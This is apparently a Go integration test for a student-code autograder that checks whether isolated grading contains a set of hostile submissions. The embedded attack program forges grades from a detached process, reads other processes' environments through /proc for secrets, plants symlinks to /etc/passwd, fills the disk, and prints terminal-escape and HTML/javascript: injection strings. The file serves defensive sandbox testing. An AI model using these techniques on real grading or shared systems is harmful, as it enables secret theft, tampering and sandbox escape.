package grade_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io/fs"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	dc "github.com/ory/dockertest/v3/docker"

	"snacklab/internal/isolate"
	"snacklab/internal/tier"
)

// The hostile cohort: each attack a learner could submit, as its own small
// submission, graded beside two copies of the reference by `lab grade` as a
// teacher runs it. In the default (isolated) mode the references keep full
// marks, each hostile submission gets only what its own code earned (0: its
// programs attack instead of honouring the contract), nothing is written
// outside --out, no secret or host path reaches a report, no control
// character or live HTML reaches any report, and no process is left. The
// same cohort graded --trusted is logged as a table of what is and is not
// contained there (docs/grading.md, "What --trusted does not contain").

// attackSource is the program every runtime attack builds into its three
// executables; %[n]q are filled in per test run.
const attackSource = `package main

import (
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"time"
)

const (
	attack = %[1]q
	tag    = %[2]q // argv of the detached forger: how the test finds its own processes
	out    = %[3]q // the grader's --out
	canary = %[4]q // a directory outside --out
	other  = %[5]q // a classmate's submission
	addr   = %[6]q // a listener on the host's loopback
)

func main() {
	if len(os.Args) > 1 && os.Args[1] == tag {
		forge()
		return
	}
	switch attack {
	case "forger":
		// Leave the session with an empty environment, stdio closed, and
		// rewrite everyone's grades once the grader is done.
		cmd := exec.Command("/proc/self/exe", tag)
		cmd.Env = []string{}
		cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
		cmd.Start()
	case "snoop":
		var found []string
		ents, _ := os.ReadDir("/proc")
		for _, e := range ents {
			if b, err := os.ReadFile("/proc/" + e.Name() + "/environ"); err == nil && strings.Contains(string(b), "SNACKLAB_TEST_SECRET=") {
				found = append(found, "the environment of pid "+e.Name()+": "+strings.ReplaceAll(string(b), "\x00", " "))
			}
		}
		for _, p := range []string{other, out, "/root", "/etc"} {
			if ents, err := os.ReadDir(p); err == nil {
				found = append(found, fmt.Sprintf("listed %%s (%%d entries)", p, len(ents)))
			}
		}
		if c, err := net.DialTimeout("tcp", addr, time.Second); err == nil {
			c.Write([]byte("hello from a submission\n"))
			c.Close()
			found = append(found, "connected to "+addr)
		}
		fmt.Println("snoop found: " + strings.Join(found, "; "))
	case "symlinker":
		os.MkdirAll("logs", 0o755)
		os.Symlink(filepath.Join(canary, "lab.log"), "lab.log")
		for i := 1; i <= 30; i++ {
			for _, p := range []string{"queuectl", "receiver", "sender-A", "sender-B", "sender-S"} {
				os.Symlink(filepath.Join(canary, "log"), fmt.Sprintf("logs/%%02d-%%s.stdout", i, p))
			}
		}
		os.Symlink("/", "root")
		os.Symlink("/etc/passwd", "passwd")
		if f, err := os.Create("big.bin"); err == nil {
			buf := make([]byte, 1<<20)
			for i := 0; i < 300; i++ {
				if _, err := f.Write(buf); err != nil {
					break
				}
			}
			f.Close()
		}
	case "printer":
		msg := "\x1b[2K\r    100/100  100.0%%  victim  8/8 steps\x07 \x01 \u202eevil <img src=x onerror=alert(1)> [click](javascript:alert(1))"
		fmt.Println(msg)
		fmt.Fprintln(os.Stderr, msg)
	}
	os.Exit(1)
}

func forge() {
	for end := time.Now().Add(90 * time.Second); time.Now().Before(end); time.Sleep(100 * time.Millisecond) {
		ms, _ := filepath.Glob(filepath.Join(out, "*", "results.json"))
		for _, m := range ms {
			os.WriteFile(m, []byte("{\"score\": 4321.25}\n"), 0o644)
		}
		os.WriteFile(filepath.Join(out, "grades.csv"), []byte("forged,4321.25\n"), 0o644)
		os.WriteFile(filepath.Join(canary, "forged"), []byte("forged\n"), 0o644)
		if f, err := os.OpenFile("/proc/1/fd/2", os.O_WRONLY, 0); err == nil {
			f.WriteString("{\"score\": 4321.25}\n")
			f.Close()
		}
	}
}
`

// module writes a stdlib-only module whose three programs are main.
func module(t *testing.T, dir, main string) {
	t.Helper()
	files := map[string]string{"go.mod": "module hostile\n\ngo 1.26\n"}
	for _, p := range []string{"queuectl", "sender", "receiver"} {
		files["cmd/"+p+"/main.go"] = main
	}
	writeFiles(t, dir, files)
}

// copyBin makes a bin-dir submission holding copies of the reference's
// executables (an isolated grade refuses links leading out of a submission).
func copyBin(t *testing.T, dir string) string {
	t.Helper()
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{"queuectl", "sender", "receiver"} {
		b, err := os.ReadFile(filepath.Join(refBin, p))
		if err == nil {
			err = os.WriteFile(filepath.Join(dir, p), b, 0o755)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

type cohortRun struct {
	code    int
	console string
	results map[string]map[string]any // name → results.json
}

// gradeCLI runs `lab grade` as a teacher does, with a secret in its environment.
func gradeCLI(t *testing.T, out string, args []string) cohortRun {
	t.Helper()
	// A step's limit with room for a loaded grader: the steps grew parts
	// (each a few more processes), and 30 s ran out for the reference at
	// 12 runnable processes per core in CI.
	ctx, cancel := context.WithTimeout(context.Background(), 12*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, labBin, append([]string{"grade", "--out", out, "--timeout", "90s", "--retries", "0"}, args...)...)
	cmd.Env = append(os.Environ(), "SNACKLAB_TEST_SECRET=hunter2-"+strconv.Itoa(os.Getpid()))
	var b bytes.Buffer
	cmd.Stdout, cmd.Stderr = &b, &b
	err := cmd.Run()
	r := cohortRun{console: b.String(), results: map[string]map[string]any{}}
	if ee, ok := err.(*exec.ExitError); ok {
		r.code = ee.ExitCode()
	} else if err != nil {
		t.Fatalf("lab grade: %v\n%s", err, b.String())
	}
	ms, _ := filepath.Glob(filepath.Join(out, "*", "results.json"))
	for _, m := range ms {
		var v map[string]any
		if raw, err := os.ReadFile(m); err == nil && json.Unmarshal(raw, &v) == nil {
			r.results[filepath.Base(filepath.Dir(m))] = v
		}
	}
	return r
}

// studentText is everything results.json shows a learner.
func studentText(v map[string]any) string {
	s, _ := v["output"].(string)
	tests, _ := v["tests"].([]any)
	for _, x := range tests {
		if m, ok := x.(map[string]any); ok {
			o, _ := m["output"].(string)
			s += "\n" + o
		}
	}
	return s
}

// ownProcs lists the processes still running with the test's tag in their
// arguments: only processes this test's submissions started.
func ownProcs(tag string) []string {
	ents, _ := os.ReadDir("/proc")
	var out []string
	for _, e := range ents {
		b, err := os.ReadFile("/proc/" + e.Name() + "/cmdline")
		if err == nil && bytes.Contains(b, []byte(tag)) {
			out = append(out, e.Name()+": "+strings.ReplaceAll(string(b), "\x00", " "))
		}
	}
	return out
}

// dirty lists what under root must not be there: links, files over 16 MiB,
// and in the reports control characters, live HTML or links in Markdown,
// and the given strings.
func dirty(root string, banned ...string) []string {
	var out []string
	filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return nil
		}
		rel, _ := filepath.Rel(root, p)
		if !d.Type().IsRegular() {
			out = append(out, rel+": not a regular file ("+d.Type().String()+")")
			return nil
		}
		fi, _ := d.Info()
		if fi.Size() > 16<<20 {
			out = append(out, fmt.Sprintf("%s: %d bytes", rel, fi.Size()))
			return nil
		}
		switch filepath.Base(p) {
		case "results.json", "junit.xml", "report.html", "build.log", "grades.csv", "grades.md", "grades.html", "shard.json":
		default:
			return nil // a program's own output, kept as it was, or an executable: not a report
		}
		b, _ := os.ReadFile(p)
		for _, c := range []string{"\x1b", "\x01", "\x07", "\u202e", `\u001b`, `\u0001`} {
			if bytes.Contains(b, []byte(c)) {
				out = append(out, fmt.Sprintf("%s holds %q", rel, c))
			}
		}
		if filepath.Ext(p) == ".md" && (bytes.Contains(b, []byte("<img")) || bytes.Contains(b, []byte("](javascript:"))) {
			out = append(out, rel+" holds live HTML or a javascript: link")
		}
		for _, s := range banned {
			if bytes.Contains(b, []byte(s)) {
				out = append(out, fmt.Sprintf("%s holds %q", rel, s))
			}
		}
		return nil
	})
	return out
}

func TestHostileCohort(t *testing.T) {
	tier.Slow(t)
	client := needDocker(t)
	root := t.TempDir()
	tag := fmt.Sprintf("snacklab-hostile-%d-%d", os.Getpid(), time.Now().UnixNano()%1e6)
	canary := filepath.Join(root, "canary")
	os.MkdirAll(canary, 0o777)
	os.Chmod(canary, 0o777) // writable by anyone: only isolation keeps a submission out
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	var dialed atomic.Int64
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			dialed.Add(1)
			c.Close()
		}
	}()
	subs := filepath.Join(root, "cohort")
	refA, refB := copyBin(t, filepath.Join(subs, "ref-a")), copyBin(t, filepath.Join(subs, "ref-b"))
	paths := []string{refA, refB}
	outFor := map[bool]string{false: filepath.Join(root, "out"), true: filepath.Join(root, "out-trusted")}
	// The runtime attacks read --out from their source; one source per
	// mode would double the builds, so both modes share one out root and
	// the source names the isolated one (the trusted run's forger writes
	// into the isolated run's --out: it is graded second, and that is
	// what it shows).
	for _, a := range []string{"forger", "snoop", "symlinker", "printer"} {
		d := filepath.Join(subs, a)
		module(t, d, fmt.Sprintf(attackSource, a, tag, outFor[false], canary, refA, ln.Addr().String()))
		paths = append(paths, d)
	}
	// Build attacks: refused before anything is built.
	linkpkg := filepath.Join(subs, "linkpkg")
	module(t, linkpkg, "package main\n\nfunc main() {}\n")
	os.Symlink(filepath.Join(refA), filepath.Join(linkpkg, "queue"))
	replace := filepath.Join(subs, "replace")
	module(t, replace, "package main\n\nfunc main() {}\n")
	os.WriteFile(filepath.Join(replace, "go.mod"), []byte("module hostile\n\ngo 1.26\n\nreplace snacklab => ../ref-a\n"), 0o644)
	linkfile := filepath.Join(subs, "linkfile")
	module(t, linkfile, "package main\n\nfunc main() {}\n")
	os.Symlink("/etc/hostname", filepath.Join(linkfile, "cmd", "queuectl", "leak.go"))
	ansi := filepath.Join(subs, "ansiname")
	module(t, ansi, "package main\n\nfunc main() {}\n")
	os.WriteFile(filepath.Join(ansi, "cmd", "queuectl", "\x1b[2K\r    100_100 8_8 steps.go"), []byte("not Go\n"), 0o644)
	fifo := filepath.Join(subs, "fifo")
	module(t, fifo, "package main\n\nfunc main() {}\n")
	os.Remove(filepath.Join(fifo, "go.mod"))
	if err := syscall.Mkfifo(filepath.Join(fifo, "go.mod"), 0o644); err != nil {
		t.Fatal(err)
	}
	paths = append(paths, linkpkg, replace, linkfile, ansi, fifo)
	refused := map[string]string{
		"linkpkg": "queue is a symbolic link", "replace": "a directory outside your submission",
		"linkfile": "leak.go is a symbolic link", "ansiname": "a file name holds control", "fifo": "go.mod is not a regular file",
	}
	secret := "hunter2-" + strconv.Itoa(os.Getpid())

	t.Run("isolated by default", func(t *testing.T) {
		out := outFor[false]
		t0 := time.Now()
		r := gradeCLI(t, out, paths)
		t.Logf("graded %d submissions isolated in %v", len(paths), time.Since(t0).Round(time.Second))
		if r.code != 0 && r.code != 3 { // 3: some submission not graded (a wait ran out, on a loaded grader or a hanging program)
			t.Fatalf("lab grade: exit %d\n%s", r.code, r.console)
		}
		for _, ref := range []string{"ref-a", "ref-b"} {
			if s, scored := r.results[ref]["score"]; s != 100.0 && (scored || !notGraded(r.results[ref])) {
				t.Errorf("%s scored %v beside the hostile cohort, want 100; what it lost points on:\n%s", ref, s, studentText(r.results[ref]))
			}
		}
		for _, a := range []string{"forger", "snoop", "symlinker", "printer", "linkpkg", "replace", "linkfile", "ansiname", "fifo"} {
			v := r.results[a]
			if v == nil || v["score"] != 0.0 && !notGraded(v) {
				t.Errorf("%s: score %v, want 0 or not graded (its programs do not honour the contract)", a, v["score"])
				continue
			}
			if want, ok := refused[a]; ok && !strings.Contains(v["output"].(string), want) {
				t.Errorf("%s: results.json output %q does not say %q", a, v["output"], want)
			}
			text := studentText(v)
			for _, leak := range []string{root, "/tmp/", "/work/snacklab", "/sub/"} {
				if strings.Contains(text, leak) {
					t.Errorf("%s: results.json shows the learner the grader's path %q:\n%s", a, leak, clipText(text))
				}
			}
			extra, _ := v["extra_data"].(map[string]any)
			if !strings.Contains(fmt.Sprint(extra["mode"]), "isolated") {
				t.Errorf("%s: extra_data.mode %v, want the isolated mode", a, extra["mode"])
			}
		}
		for _, x := range r.results["printer"]["tests"].([]any) {
			e := x.(map[string]any)["extra_data"].(map[string]any)
			if rp, _ := e["replay"].(string); rp != "" && (!strings.Contains(rp, " grade --out ") || strings.Contains(rp, " run --bin ")) {
				t.Errorf("the replay of an isolated grade %q does not replay isolated", rp)
			}
		}
		if left := ownProcs(tag); len(left) > 0 {
			t.Errorf("processes a submission started are still running:\n%s", strings.Join(left, "\n"))
		}
		if cs, err := client.ListContainers(dc.ListContainersOptions{All: true, Filters: map[string][]string{"label": {isolate.LabelEngine}}}); err == nil {
			for _, c := range cs {
				if strings.Contains(c.Labels[isolate.LabelSubmission], "forger") || strings.Contains(c.Labels[isolate.LabelSubmission], "snoop") {
					t.Errorf("container %v of this cohort is left", c.Names)
				}
			}
		}
		time.Sleep(time.Second) // a forger that escaped would write now
		if ents, _ := os.ReadDir(canary); len(ents) > 0 {
			t.Errorf("a submission wrote outside --out: %s holds %d entries", canary, len(ents))
		}
		if n := dialed.Load(); n > 0 {
			t.Errorf("a submission connected %d times to a listener on the host's loopback", n)
		}
		if bad := dirty(out, secret, "4321.25"); len(bad) > 0 {
			t.Errorf("the reports under --out:\n%s", strings.Join(bad, "\n"))
		}
		for _, c := range []string{"\x1b", "\x01", secret} {
			if strings.Contains(r.console, c) {
				t.Errorf("the teacher's console shows %q:\n%s", c, r.console)
			}
		}
	})

	t.Run("trusted: what is and is not contained", func(t *testing.T) {
		out := outFor[true]
		dialed.Store(0)
		r := gradeCLI(t, out, append([]string{"--trusted"}, paths...))
		for _, ref := range []string{"ref-a", "ref-b"} {
			if s := r.results[ref]["score"]; s != 100.0 {
				t.Logf("%s scored %v", ref, s)
			}
		}
		ents, _ := os.ReadDir(canary)
		leaked := strings.Contains(studentText(r.results["snoop"]), secret)
		contained := func(ok bool) string {
			if ok {
				return "contained"
			}
			return "NOT contained"
		}
		t.Logf("--trusted, attack by attack (docs/grading.md):\n"+
			"  build attacks (links, replace, FIFO, control characters in names): %s (refused before the build)\n"+
			"  forger's detached setsid child, environment cleared:  %s (processes left: %d)\n"+
			"  writes outside --out (forger, symlinker):              %s (%d entries in the canary dir)\n"+
			"  the grader's environment read through /proc:          %s\n"+
			"  the host's loopback:                                  %s (%d connections)\n"+
			"  control characters and HTML in the reports:           %s\n",
			contained(true), contained(len(ownProcs(tag)) == 0), len(ownProcs(tag)),
			contained(len(ents) == 0), len(ents), contained(!leaked), contained(dialed.Load() == 0), dialed.Load(),
			contained(len(dirty(out)) == 0))
		// What --trusted promises: no process outlives the grading (each
		// step's cgroup is killed, or its group and tag where there are no
		// cgroups), and reports hold no control characters, live HTML,
		// links or oversized logs.
		if left := ownProcs(tag); len(left) > 0 && os.Getuid() == 0 {
			t.Errorf("processes a submission started are still running:\n%s", strings.Join(left, "\n"))
		}
		for _, p := range ownProcs(tag) {
			if pid, err := strconv.Atoi(strings.SplitN(p, ":", 2)[0]); err == nil {
				syscall.Kill(pid, syscall.SIGKILL)
			}
		}
		if bad := dirty(out); len(bad) > 0 {
			t.Errorf("the reports under --out:\n%s", strings.Join(bad, "\n"))
		}
	})
}

func clipText(s string) string {
	if len(s) > 2000 {
		return s[:2000] + " …"
	}
	return s
}

// needDocker connects to the engine, or skips — or fails when
// SNACKLAB_REQUIRE_DOCKER=1 says the test must run (as in CI).
func needDocker(t *testing.T) *dc.Client {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 15*time.Second)
	defer cancel()
	c, err := isolate.Connect(ctx)
	if err != nil {
		if os.Getenv("SNACKLAB_REQUIRE_DOCKER") == "1" {
			t.Fatalf("%v; SNACKLAB_REQUIRE_DOCKER=1 requires the isolated grading tests", err)
		}
		t.Skipf("%v, so the isolated grading tests did not run; set SNACKLAB_REQUIRE_DOCKER=1 to make this a failure", err)
	}
	return c
}

// notGraded says a results.json (as a map) is not graded: no score, and
// extra_data.not_graded saying which parts were not judged.
func notGraded(v map[string]any) bool {
	extra, _ := v["extra_data"].(map[string]any)
	_, scored := v["score"]
	return !scored && extra["not_graded"] != nil && extra["not_graded"] != ""
}
